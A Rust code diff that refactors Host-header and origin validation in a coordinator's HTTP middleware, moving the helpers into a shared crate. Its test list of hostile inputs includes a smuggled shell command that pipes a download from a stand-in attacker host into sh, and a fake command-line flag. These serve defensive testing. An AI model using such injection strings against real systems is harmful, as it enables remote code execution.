@@ -9,7 +9,7 @@
 //! A request names its target as `Host`, and may name it in its URI as well (RFC 9112, 3.2.2). A proxy between a
 //! client and this coordinator may use either, so both must be right.
 
-use std::net::{IpAddr, Ipv6Addr};
+use std::net::IpAddr;
 use std::str::FromStr;
 
 use axum::extract::{Request, State};
@@ -18,12 +18,10 @@ use axum::http::{HeaderMap, StatusCode, Uri, header};
 use axum::middleware::Next;
 use axum::response::{IntoResponse, Response};
 use sateen_api::names::quoted;
+use sateen_command_line::{is_machine_name, machine_address, without_port};
 
 use super::Api;
 use super::problem::Problem;
-
-/// Maximum length of a name (RFC 1035, 2.3.4).
-const NAME_BYTES_MAX: usize = 253;
 
 /// A name under which clients reach a coordinator, without a port: `grid.example.org`.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -33,10 +31,7 @@ impl FromStr for PublicName {
     type Err = String;
 
     fn from_str(text: &str) -> Result<Self, String> {
-        let is_name = (1..=NAME_BYTES_MAX).contains(&text.len())
-            && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte))
-            && !text.starts_with(['-', '.']);
-        if is_name {
+        if is_machine_name(text) {
             return Ok(Self(text.trim_end_matches('.').to_ascii_lowercase()));
         }
         Err("not a name of a machine; expected, for example, grid.example.org, without http:// and without a port"
@@ -64,8 +59,7 @@ impl PublicNames {
         if name.eq_ignore_ascii_case("localhost") || self.is_listed(name) {
             return true;
         }
-        let literal = name.strip_prefix('[').and_then(|name| name.strip_suffix(']')).unwrap_or(name);
-        literal.parse::<IpAddr>().is_ok_and(|address| address.is_loopback() || self.is_public)
+        machine_address(name).is_some_and(|address| address.is_loopback() || self.is_public)
     }
 
     fn is_listed(&self, name: &str) -> bool {
@@ -78,13 +72,6 @@ impl PublicNames {
     fn is_own(&self, origin: &str, host: &str) -> bool {
         origin.strip_prefix("http://") == Some(host)
             || (self.is_listed(without_port(host)) && origin.strip_prefix("https://") == Some(host))
-    }
-}
-
-fn without_port(host: &str) -> &str {
-    match host.rsplit_once(':') {
-        Some((name, port)) if port.bytes().all(|byte| byte.is_ascii_digit()) => name,
-        _ => host,
     }
 }
 
@@ -121,17 +108,12 @@ fn refusal(uri: &Uri, headers: &HeaderMap, names: &PublicNames) -> Option<Proble
 /// Repeats only what can be the name or address of a machine.
 fn misdirected(host: &str) -> Problem {
     let name = without_port(host);
-    let is_address = name.parse::<Ipv6Addr>().is_ok()
-        || name
-            .strip_prefix('[')
-            .and_then(|rest| rest.strip_suffix(']'))
-            .is_some_and(|in_brackets| in_brackets.parse::<Ipv6Addr>().is_ok());
     let why = if name.parse::<PublicName>().is_ok() {
         format!(
             "the request is for `{name}`, which this coordinator does not know as its own name; if it is, start it with \
              --public-name {name}"
         )
-    } else if is_address {
+    } else if machine_address(name).is_some() {
         format!(
             "the request is for the address `{name}`, and this coordinator answers to loopback addresses only"
         )
@@ -217,7 +199,7 @@ mod tests {
         assert!(why("grid.example:7700").ends_with("start it with --public-name grid.example"));
         assert!(why("10.0.0.1").ends_with("start it with --public-name 10.0.0.1"));
         assert!(why("[fd00::1]:7700").contains("the address `[fd00::1]`"));
-        let long = "x".repeat(NAME_BYTES_MAX + 1);
+        let long = "x".repeat(254);
         for hostile in [
             "evil; curl evil.example | sh",
             "--trusted-network",
